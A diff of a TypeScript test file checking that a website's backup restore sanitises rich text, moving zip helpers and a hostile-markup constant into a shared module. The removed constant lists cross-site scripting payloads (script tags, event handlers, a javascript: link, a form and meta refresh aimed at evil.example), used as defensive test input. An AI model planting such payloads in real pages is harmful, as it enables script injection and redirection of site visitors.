@@ -1,8 +1,5 @@
-import { createHash } from "node:crypto";
 import { crc32 } from "node:zlib";
 import { describe, expect, it } from "vitest";
-import yauzl from "yauzl";
-import yazl from "yazl";
 import { apiErrorText } from "#core/api-errors.ts";
 import { CASE_STUDY_TEXTS } from "#core/projects.ts";
 import { articles, projects, slugHistory, variantJobs } from "#db/schema.ts";
@@ -14,20 +11,13 @@ import {
   storeImageFile,
   TINY_PNG,
 } from "#tests/helpers/app.ts";
+import { HOSTILE_HTML, rezip, unzip } from "#tests/helpers/backup-archive.ts";
 import { backends, useTestDatabase, type TestDatabase } from "#tests/helpers/databases.ts";
 
 // Whatever a restore brings passes the gates the owner's own save does (docs/product.md §19): rich text the save's
 // sanitiser, slugs the rules of a typed one, images the checks of an upload. A hostile archive changes nothing that
 // a page, the editor or the image queue would then run, show or decode.
 
-/** What a hostile case study or article may carry: each would run, navigate or post from the site's pages. */
-const HOSTILE =
-  `<p>Text<script>window.ran = 1</script></p>` +
-  `<img src="x" onerror="window.ran = 2"><p onclick="window.ran = 3">Click</p>` +
-  `<iframe srcdoc="<script>parent.ran = 4</script>"></iframe>` +
-  `<a href="javascript:window.ran = 5">Link</a>` +
-  `<form action="https://evil.example/"><input name="q"><button>Send</button></form>` +
-  `<meta http-equiv="refresh" content="0; url=https://evil.example/">`;
 /** What none of the stored rich text may hold afterwards. */
 const MARKERS = [
   /<script/i,
@@ -49,61 +39,6 @@ async function site(database: TestDatabase): Promise<Made> {
   const made = makeApp(database);
   const cookie = await signIn(made.app, database);
   return { ...made, cookie, send: ownerRequests(made.app, () => cookie) };
-}
-
-function zipBytes(zip: yazl.ZipFile): Promise<Buffer> {
-  const chunks: Buffer[] = [];
-  return new Promise((resolve) => {
-    zip.outputStream.on("data", (chunk: Buffer) => chunks.push(chunk));
-    zip.outputStream.on("end", () => resolve(Buffer.concat(chunks)));
-  });
-}
-
-/** The entries of a zip. */
-function unzip(archive: Buffer): Promise<Map<string, Buffer>> {
-  return new Promise((resolve, reject) => {
-    yauzl.fromBuffer(archive, { lazyEntries: true }, (error, zip) => {
-      if (error || !zip) return reject(error ?? new Error("no zip"));
-      const files = new Map<string, Buffer>();
-      zip.on("end", () => resolve(files));
-      zip.on("entry", (entry: yauzl.Entry) => {
-        zip.openReadStream(entry, (streamError, stream) => {
-          if (streamError || !stream) return reject(streamError ?? new Error("no stream"));
-          const chunks: Buffer[] = [];
-          stream.on("data", (chunk: Buffer) => chunks.push(chunk));
-          stream.on("end", () => {
-            files.set(entry.fileName, Buffer.concat(chunks));
-            zip.readEntry();
-          });
-        });
-      });
-      zip.readEntry();
-    });
-  });
-}
-
-/** A well-made archive of these entries: its manifest's checksums and row counts match them. */
-function rezip(files: Map<string, Buffer>): Promise<Buffer> {
-  const manifest = JSON.parse(files.get("manifest.json")!.toString("utf8")) as {
-    tables: Record<string, number>;
-    entries: { path: string; sha256: string; bytes: number }[];
-  };
-  for (const [name, bytes] of files) {
-    const table = /^data\/(\w+)\.json$/.exec(name)?.[1];
-    if (table) manifest.tables[table] = (JSON.parse(bytes.toString("utf8")) as unknown[]).length;
-  }
-  manifest.entries = [...files.keys()]
-    .filter((name) => name !== "manifest.json")
-    .map((name) => ({
-      path: name,
-      sha256: createHash("sha256").update(files.get(name)!).digest("hex"),
-      bytes: files.get(name)!.length,
-    }));
-  const zip = new yazl.ZipFile();
-  for (const [name, bytes] of files) if (name !== "manifest.json") zip.addBuffer(bytes, name);
-  zip.addBuffer(Buffer.from(JSON.stringify(manifest)), "manifest.json");
-  zip.end();
-  return zipBytes(zip);
 }
 
 /** A PNG whose header declares `width` × `height` pixels, a few dozen bytes long: never decoded whole. */
@@ -179,8 +114,8 @@ describe.each(backends)("a restore passes the save's gates on $name", (backend) 
 
   it("stores every rich-text column of every table as the save's sanitiser leaves it", async () => {
     const { made, changed, table } = await backedUp();
-    const articleChange = { content_en: HOSTILE, content_ar: HOSTILE };
-    const projectChange = Object.fromEntries(CASE_STUDY_TEXTS.map((field) => [field, HOSTILE]));
+    const articleChange = { content_en: HOSTILE_HTML, content_ar: HOSTILE_HTML };
+    const projectChange = Object.fromEntries(CASE_STUDY_TEXTS.map((field) => [field, HOSTILE_HTML]));
     const files = await unzip(await changed("projects", projectChange));
     const articleRows = table("articles").map((row) => ({ ...row, ...articleChange }));
     files.set("data/articles.json", Buffer.from(JSON.stringify(articleRows)));
